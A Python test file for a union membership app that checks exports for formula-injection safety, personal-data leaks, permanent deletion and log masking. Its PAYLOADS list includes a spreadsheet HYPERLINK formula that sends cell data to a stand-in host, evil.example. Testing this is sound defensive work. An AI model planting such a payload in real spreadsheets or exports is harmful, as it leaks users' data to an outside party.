"""Issue 8, items 9–10 and the log: formula injection, personal data in outputs, erasure.

Outputs are read back as a spreadsheet program or a reader would see them: the XML inside an
.xlsx, the text of a PDF, every part of an .eml (attachments decoded), the log file as written.
"""

from __future__ import annotations

import csv
import email
import io
import logging
import re
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader
from sqlalchemy import select

from unionapp.applications.participants import set_participants
from unionapp.applications.printing import write_applications_pdf
from unionapp.applications.service import create_application
from unionapp.cli import main
from unionapp.logsetup import mask_personal_data
from unionapp.models import Member
from unionapp.reports.figures import compute_figures
from unionapp.reports.mail import write_report_draft
from unionapp.reports.pdf import write_report_pdf
from unionapp.reports.period import ReportQuery
from unionapp.reports.xlsx import write_report_xlsx
from unionapp.roster.export import export_roster
from unionapp.roster.store import delete_member_permanently
from unionapp.storage.context import AppContext, open_context

from .builders import PROGRAMME_NAME, make_id, new_data_folder, roster_rows, write_roster_csv

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+8613912345678",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=1+2",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ID_PATTERN = re.compile(r"(?<![0-9])[1-9][0-9]{16}[0-9Xx](?![0-9])")
MOBILE_PATTERN = re.compile(r"(?<![0-9])1[3-9][0-9]{9}(?![0-9])")
ROOT = Path(__file__).resolve().parents[2]


def published_numbers() -> set[str]:
    """Contact numbers printed in the Federation's notice (the catalogue and the form's own
    footer carry them): public, not members' data."""
    sources = [*ROOT.glob("resources/catalogue/*.json"), ROOT / "src/unionapp/form/layout.py"]
    return {m for path in sources for m in MOBILE_PATTERN.findall(path.read_text("utf-8"))}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Members with ID and mobile numbers, some with formula-like names and notes, and
    applications with formula-like text and the members as participants."""
    base = tmp_path_factory.mktemp("privacy")
    rows = roster_rows(60)
    for number, payload in enumerate(PAYLOADS):
        rows[number][0] = payload if number % 2 else rows[number][0]
        rows[number][6] = payload
    folder = new_data_folder(base / "data", members=0)
    ctx = open_context(folder)
    try:
        with ctx.session() as session:
            from unionapp.roster.importer import import_roster

            import_roster(session, write_roster_csv(base / "roster.csv", rows))
        with ctx.session() as session:
            member_ids = list(session.execute(select(Member.id)).scalars())
            for number, payload in enumerate(PAYLOADS):
                app = create_application(
                    session,
                    {
                        "programme": PROGRAMME_NAME,
                        "service_time": datetime(2023, 6, 1 + number, 14, 0),
                        "service_item": payload,
                        "location": payload,
                        "needs": payload,
                        "notes": payload,
                    },
                )
                assert app.id is not None
                set_participants(session, app.id, member_ids[number * 5 : number * 5 + 5])
    finally:
        ctx.close()
    return folder


@pytest.fixture
def opened(folder: Path) -> Iterator[AppContext]:
    ctx = open_context(folder)
    yield ctx
    ctx.close()


def report_figures(ctx: AppContext, *, attendees: bool = True):
    query = ReportQuery(date(2023, 1, 1), date(2023, 12, 31), list_attendees=attendees)
    with ctx.session() as session:
        return compute_figures(session, query)


def xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def xlsx_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "\n".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.endswith(".xml")
        )


def test_formula_injection(opened, tmp_path, figure):
    outputs = {
        "roster .xlsx": export_roster(opened.engine, tmp_path / "名册.xlsx")
        and tmp_path / "名册.xlsx",
        "roster .csv": export_roster(opened.engine, tmp_path / "名册.csv")
        and tmp_path / "名册.csv",
        "report .xlsx": write_report_xlsx(report_figures(opened), tmp_path / "报表.xlsx"),
    }
    problems = []
    payload_cells = 0
    for what, path in outputs.items():
        if path.suffix == ".xlsx":
            if "<f>" in xlsx_xml(path) or "<f " in xlsx_xml(path):
                problems.append(f"{what}: a formula element in the workbook")
            for cell in xlsx_cells(path):
                if cell.data_type == "f":
                    problems.append(f"{what}: formula cell {cell.coordinate}: {cell.value!r}")
                if isinstance(cell.value, str) and cell.value.lstrip().startswith(FORMULA_START):
                    payload_cells += 1
        else:
            text = path.read_text(encoding="utf-8-sig")
            for row in csv.reader(io.StringIO(text, newline="")):
                for value in row:
                    if value.startswith(FORMULA_START):
                        problems.append(f"{what}: cell runs as a formula: {value!r}")
                    if value.startswith("'") and value[1:].startswith(FORMULA_START):
                        payload_cells += 1
    figure(
        "formula injection through roster export (.xlsx, .csv) and report .xlsx",
        len(outputs),
        len(problems),
        f"{payload_cells} formula-like cells, all inert",
    )
    assert payload_cells >= 3 * 4  # the payloads did reach every output
    assert not problems, problems


def texts_of(path: Path) -> list[str]:
    """What a person opening the file could read, as text."""
    data = path.read_bytes()
    return texts_of_bytes(path.name, data)


def texts_of_bytes(name: str, data: bytes) -> list[str]:
    suffix = Path(name).suffix.lower()
    if suffix == ".xlsx":  # cell values as shown (a whole number as its digits)
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        return [
            str(int(value)) if isinstance(value, float) and value.is_integer() else str(value)
            for sheet in workbook
            for row in sheet.iter_rows(values_only=True)
            for value in row
            if value is not None
        ]
    if suffix == ".pdf":
        reader = PdfReader(io.BytesIO(data))
        return [page.extract_text() or "" for page in reader.pages] + [str(reader.metadata)]
    if suffix == ".eml":
        message = email.message_from_bytes(data)
        found = [f"{k}: {v}" for k, v in message.items() if k.lower() != "content-type"]
        for part in message.walk():
            payload = part.get_payload(decode=True)
            if not payload:
                continue
            filename = part.get_filename()
            if filename:
                found += texts_of_bytes(filename, payload)
            else:
                found.append(payload.decode(part.get_content_charset() or "utf-8", "replace"))
        return found
    return [data.decode("utf-8", "replace")]


def test_personal_data_absent_from_default_outputs(opened, tmp_path, capsys, figure):
    with opened.session() as session:
        app_ids = [1, 2]
        write_applications_pdf(session, app_ids, tmp_path / "申请表.pdf")
    figures_ = report_figures(opened)
    outputs = [
        export_roster(opened.engine, tmp_path / "名册.xlsx") and tmp_path / "名册.xlsx",
        export_roster(opened.engine, tmp_path / "名册.csv") and tmp_path / "名册.csv",
        write_report_xlsx(figures_, tmp_path / "报表.xlsx"),
        write_report_pdf(figures_, tmp_path / "报表.pdf"),
        tmp_path / "申请表.pdf",
    ]
    with opened.session() as session:
        outputs.append(write_report_draft(session, tmp_path / "报表.eml", figures_, outputs[2:4]))
    # the command line's own outputs, and its log, for the same data
    folder = str(opened.paths.root)
    opened.close()
    for argv in (
        ["roster", "export", str(tmp_path / "cli.xlsx")],
        ["roster", "find", "王", "--json"],
        ["report", "--from", "2023-01-01", "--to", "2023-12-31", "--out", str(tmp_path / "c.pdf")],
    ):
        assert main(["--data-dir", folder, *argv]) == 0
    printed = capsys.readouterr().out
    outputs += [tmp_path / "cli.xlsx", tmp_path / "c.pdf", *Path(folder, "logs").glob("*.log*")]
    public = published_numbers()
    problems = []
    for name, text in [(p.name, t) for p in outputs for t in texts_of(p)] + [("stdout", printed)]:
        for pattern, what in ((ID_PATTERN, "ID number"), (MOBILE_PATTERN, "mobile number")):
            problems += [f"{name}: {what} {m}" for m in pattern.findall(text) if m not in public]
    figure(
        "personal data in default exports, reports, PDFs, .eml, logs, CLI output",
        len(outputs) + 1,
        len(problems),
    )
    assert not problems, problems[:10]


def test_full_numbers_only_when_asked(opened, tmp_path):
    """The check above can fail: asking for full numbers does put them in the file."""
    path = tmp_path / "full.csv"
    export_roster(opened.engine, path, with_id_numbers=True, with_phones=True)
    content = path.read_text(encoding="utf-8-sig")
    assert ID_PATTERN.search(content) and MOBILE_PATTERN.search(content)


def test_delete_permanently_leaves_no_trace(tmp_path, figure):
    folder = new_data_folder(tmp_path / "data", members=200)
    ctx = open_context(folder)
    problems = []
    erased = 0
    try:
        with ctx.session() as session:
            victims = list(session.execute(select(Member.id, Member.id_number).limit(20)).all())
        for member_id, id_number in victims:
            assert id_number and ID_PATTERN.fullmatch(id_number)
            with ctx.session() as session:  # an edit first: old page versions in the WAL
                session.get(Member, member_id).notes = "待删除"  # type: ignore[union-attr]
            delete_member_permanently(ctx.engine, member_id)
            erased += 1
            for suffix in ("", "-wal", "-journal"):
                path = Path(str(ctx.paths.db) + suffix)
                if path.exists() and id_number.encode() in path.read_bytes():
                    problems.append(f"{id_number} still in {path.name}")
    finally:
        ctx.close()
    for suffix in ("", "-wal"):
        path = Path(str(folder / "unionapp.db") + suffix)
        for _, id_number in victims:
            if path.exists() and id_number.encode() in path.read_bytes():
                problems.append(f"{id_number} in {path.name} after closing")
    figure("delete permanently: ID absent from database and WAL bytes", erased, len(problems))
    assert not problems, problems[:5]


def test_log_masks_personal_data(tmp_path, figure):
    ctx = open_context(tmp_path / "data")
    logger = logging.getLogger("unionapp.reliability")
    secrets = [make_id(n) for n in range(5)] + [f"1{n}912345678" for n in range(3, 10)]
    try:
        for secret in secrets:
            logger.info("member %s changed", secret)
            logger.warning("phone=%s;id=%s", secret, secrets[0])
            try:
                raise ValueError(f"bad value {secret}")
            except ValueError:
                logger.exception("failed for %s", secret)
        log_text = ctx.log_file.read_text(encoding="utf-8")  # type: ignore[union-attr]
    finally:
        ctx.close()
    leaks = [s for s in secrets if s in log_text]
    figure("log masking of ID and mobile numbers", len(secrets) * 3, len(leaks))
    assert "member " in log_text and not leaks, leaks


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(
    before=st.text(max_size=20),
    number=st.integers(0, 999_999),
    after=st.text(max_size=20),
    mobile=st.integers(3_000_000_000, 9_999_999_999),
)
def test_masking_property(before, number, after, mobile):
    text_ = f"{before} {make_id(number)} {after} 1{mobile} {before}"
    masked = mask_personal_data(text_)
    assert make_id(number) not in masked and f"1{mobile}" not in masked
